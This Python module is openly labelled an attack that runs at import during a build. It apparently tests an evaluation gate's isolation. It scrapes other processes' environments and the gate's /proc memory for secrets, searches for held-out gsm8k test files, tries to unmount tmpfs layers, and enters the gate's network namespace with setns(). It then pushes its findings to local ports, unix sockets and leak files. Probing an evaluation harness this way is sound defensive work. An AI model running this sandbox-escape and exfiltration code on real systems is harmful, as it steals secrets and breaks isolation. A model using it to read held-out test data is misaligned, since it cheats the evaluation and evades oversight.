"""Attack, at import (during build): collect what this process can reach, and get it out.

  * secrets: its own environment, the environ of the gate process, its Python ancestors and the other engines
    (/proc/<pid>/environ), and the gate process's memory (/proc/<pid>/mem: monkeypatched os.environ lives there);
  * held-out data: directories named prepared/ or gsm8k/ near the gate's working directory, its arguments,
    PYTHONPATH, /work, /root and $HOME, read directly and through /proc/<gate>/root (another mount namespace's
    view of the same files, around any tmpfs laid over them here); and it tries to unmount tmpfs mounts that
    exist only in its own mount namespace;
  * network: TCP ports the gate and its ancestors listen on (/proc/<pid>/net/tcp + their socket fds), connected
    from here and, after setns() into the gate's network namespace, from a forked child; unix sockets (*.sock)
    in $TMPDIR, the gate's working directory and --json directory, also through /proc/<gate>/root; names of the
    sockets in /run, /var/run and /tmp;
  * out: everything found goes into stats() (which the gate copies into its result), into files outside its tree
    ($TMPDIR, $HOME, /tmp, next to the gate's --json, /tmp through /proc/<gate>/root), and down every socket.

Safety limits (see _adv_common): only the test's canary is ever recorded as a secret (never a real credential);
only the gate, its Python ancestors and its engines are read; only ports they hold are connected to; system
sockets are listed, not connected to; nothing is unmounted that the gate's own namespace also has."""
from __future__ import annotations

import ctypes
import json
import os
import re
import socket
import time

from . import _adv_common as C

LEAK_NAME = "seis-adv-leak"
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
GATE = C.ppid() or 0
GATE_ROOT = f"/proc/{GATE}/root" if GATE > 1 else ""
REPORT: dict = {"secrets": [], "secret_sources": [], "heldout": [], "heldout_files": [], "unmounted": [],
                "tcp": [], "unix": [], "system_sockets": [], "leak_files": [], "errors": []}
SYSTEM_PREFIXES = ("/proc", "/sys", "/dev", "/run", "/mnt", "/boot", "/var/run")


def _note_secret(blob: bytes, source: str) -> None:
    for m in set(C.CANARY.findall(blob)):
        if m.decode() not in REPORT["secrets"]:
            REPORT["secrets"].append(m.decode())
        REPORT["secret_sources"].append(source)


def probe_secrets() -> None:
    _note_secret("\0".join(f"{k}={v}" for k, v in os.environ.items()).encode(), "own environ")
    REPORT["key_names_in_own_env"] = sorted(k for k in os.environ if re.search("API_KEY|TOKEN|SECRET", k))
    for pid in dict.fromkeys(C.ancestors() + C.siblings()):
        _note_secret(C.read(f"/proc/{pid}/environ"), f"/proc/{pid}/environ")
    _scan_memory(GATE)


def _scan_memory(pid: int, budget: int = 256 << 20) -> None:
    if pid <= 1:
        return
    regions = []
    for line in C.read(f"/proc/{pid}/maps", 8 << 20).decode(errors="replace").splitlines():
        parts = line.split()
        if len(parts) < 2 or not parts[1].startswith("rw"):
            continue
        if len(parts) > 5 and parts[5] not in ("[heap]",):
            continue  # file-backed: not where os.environ's strings live
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        regions.append((0 if len(parts) > 5 else 1, lo, hi))
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        REPORT["errors"].append(f"mem: {type(e).__name__}")
        return
    with mem:
        for _, lo, hi in sorted(regions):
            size = min(hi - lo, 64 << 20, budget)
            if size <= 0:
                break
            try:
                mem.seek(lo)
                blob = mem.read(size)
            except (OSError, ValueError, OverflowError):
                continue
            budget -= size
            if b"SECRET" in blob:
                _note_secret(blob, f"/proc/{pid}/mem")


def _dirs_named(base: str, names: tuple[str, ...], depth: int) -> list[str]:
    out, level = [], [base]
    for _ in range(depth):
        nxt = []
        for d in level:
            try:
                for e in os.scandir(d):
                    if e.is_dir(follow_symlinks=False) and (not e.name.startswith(".") or e.name == ".cache"):
                        (out if e.name in names else nxt).append(e.path)
            except OSError:
                pass
        level = nxt
    return out


def probe_heldout() -> None:
    bases = ["/work", "/root", os.environ.get("HOME", "")]
    for pid in C.ancestors():
        try:
            bases.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        bases += [a if os.path.isdir(a) else os.path.dirname(a) for a in C.cmdline(pid) if a.startswith("/")]
    bases += os.environ.get("PYTHONPATH", "").split(os.pathsep)
    starts: list[str] = []
    for b in bases:
        b = os.path.abspath(b) if b else ""
        for _ in range(3):
            if b and b.count(os.sep) >= 2 and not b.startswith(SYSTEM_PREFIXES) and b not in starts:
                starts.append(b)
            b = os.path.dirname(b)
    found: list[str] = []
    for s in starts + ["/work", "/root"]:
        for d in _dirs_named(s, ("prepared", "gsm8k"), 3):
            if d not in found:
                found.append(d)
    for d in found:
        for view in dict.fromkeys([d, GATE_ROOT + d if GATE_ROOT else d]):
            try:
                names = sorted(os.listdir(view))
            except OSError:
                continue
            for name in names:
                if re.search(r"test.*\.jsonl$|heldout", name):
                    _note_heldout(os.path.join(view, name))


def _note_heldout(path: str) -> None:
    head = C.read(path, 8192).decode(errors="replace")
    if not head:
        return
    REPORT["heldout_files"].append(path)
    for line in head.splitlines()[:3]:
        try:
            q = json.loads(line).get("question")
        except (ValueError, AttributeError):
            q = None
        snippet = (q or line)[:160]
        if snippet and snippet not in REPORT["heldout"]:
            REPORT["heldout"].append(snippet)


def try_umount() -> None:
    try:
        mine, theirs = os.readlink("/proc/self/ns/mnt"), os.readlink(f"/proc/{GATE}/ns/mnt")
    except OSError:
        return
    if mine == theirs:
        return  # same mount namespace as the gate: an unmount would hit the host
    gate_mounts = {ln.split()[4] for ln in C.read(f"/proc/{GATE}/mountinfo").decode().splitlines() if ln}
    libc = ctypes.CDLL(None, use_errno=True)
    for ln in C.read("/proc/self/mountinfo").decode().splitlines():
        left, _, right = ln.partition(" - ")
        fields, fstype = left.split(), right.split()[0] if right else ""
        mp = fields[4] if len(fields) > 4 else "/"
        if fstype != "tmpfs" or mp in gate_mounts or "shared:" in left or mp.startswith(SYSTEM_PREFIXES):
            continue
        if libc.umount2(mp.encode(), 2) == 0:  # MNT_DETACH
            REPORT["unmounted"].append(mp)
            for name in sorted(os.listdir(mp)) if os.path.isdir(mp) else []:
                if re.search(r"test.*\.jsonl$|heldout", name):
                    _note_heldout(os.path.join(mp, name))


def _listening_ports(pid: int) -> list[int]:
    inodes = set()
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
            if link.startswith("socket:["):
                inodes.add(link[8:-1])
    except OSError:
        return []
    ports = []
    for table in ("tcp", "tcp6"):
        for ln in C.read(f"/proc/{pid}/net/{table}").decode().splitlines()[1:]:
            f = ln.split()
            if len(f) > 9 and f[3] == "0A" and f[9] in inodes:
                ports.append(int(f[1].rsplit(":", 1)[1], 16))
    return ports


def _payload() -> bytes:
    return (json.dumps({k: REPORT[k] for k in ("secrets", "heldout")}) + "\n").encode()


def _connect_tcp(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(_payload())
        return "sent"
    except OSError as e:
        return type(e).__name__


def probe_network() -> None:
    ports = sorted({p for pid in C.ancestors() for p in _listening_ports(pid)})
    for port in ports:
        REPORT["tcp"].append({"port": port, "direct": _connect_tcp(port)})
    if ports and GATE > 1:
        r, w = os.pipe()
        child = os.fork()
        if child == 0:  # single-threaded: setns into the gate's network namespace, then connect
            try:
                os.close(r)
                libc = ctypes.CDLL(None, use_errno=True)
                fd = os.open(f"/proc/{GATE}/ns/net", os.O_RDONLY)
                ok = libc.setns(fd, 0x40000000) == 0  # CLONE_NEWNET
                res = {str(p): (_connect_tcp(p) if ok else f"setns errno {ctypes.get_errno()}") for p in ports}
                os.write(w, json.dumps(res).encode())
            finally:
                os._exit(0)
        os.close(w)
        deadline, data = time.time() + 5, b""
        while time.time() < deadline:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            data += chunk
        os.close(r)
        os.waitpid(child, 0)
        try:
            via = json.loads(data or b"{}")
        except ValueError:
            via = {}
        for entry in REPORT["tcp"]:
            entry["via_setns"] = via.get(str(entry["port"]))
    places = [os.environ.get("TMPDIR") or "/tmp"]
    for pid in C.ancestors():   # the gate's working directory and where it writes its result
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        places += [os.path.dirname(p) for p in C.arg_values(pid, "--json")]
    socks = []
    for d in dict.fromkeys(places):
        if d.count(os.sep) < 2 or d.startswith(SYSTEM_PREFIXES):
            continue  # the machine's shared /tmp and the like: list only (below)
        for view in dict.fromkeys([d, GATE_ROOT + d if GATE_ROOT else d]):
            try:
                socks += [e.path for e in os.scandir(view) if e.name.endswith(".sock")]
            except OSError:
                pass
    for path in socks:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(path)
                s.sendall(_payload())
            REPORT["unix"].append({"path": path, "result": "sent"})
        except OSError as e:
            REPORT["unix"].append({"path": path, "result": type(e).__name__})
    for d in ("/run", "/var/run", "/tmp"):
        try:
            REPORT["system_sockets"] += [e.path for e in os.scandir(d) if e.name.endswith(".sock")]
        except OSError:
            pass


def leak_files() -> None:
    if not (REPORT["secrets"] or REPORT["heldout"]):
        return
    text = json.dumps(REPORT, indent=1)
    targets = [os.path.join(os.environ.get("TMPDIR") or "/tmp", f"{LEAK_NAME}.json"),
               os.path.join(os.environ.get("HOME") or "/nonexistent", f".{LEAK_NAME}.json"),
               f"/tmp/{LEAK_NAME}-{os.getpid()}.json"]
    for pid in C.ancestors():
        targets += [os.path.join(os.path.dirname(p), f"{LEAK_NAME}.json") for p in C.arg_values(pid, "--json")]
    if GATE_ROOT:
        targets.append(f"{GATE_ROOT}/tmp/{LEAK_NAME}-{os.getpid()}-via-root.json")
    for path in dict.fromkeys(targets):
        try:
            with open(path, "w") as f:
                f.write(text)
            REPORT["leak_files"].append(path)
        except OSError:
            pass


for _step in (probe_secrets, probe_heldout, try_umount, probe_network, leak_files):
    try:
        _step()
    except Exception as e:  # noqa: BLE001 -- never fail the build over a probe
        REPORT["errors"].append(f"{_step.__name__}: {type(e).__name__}: {e}")
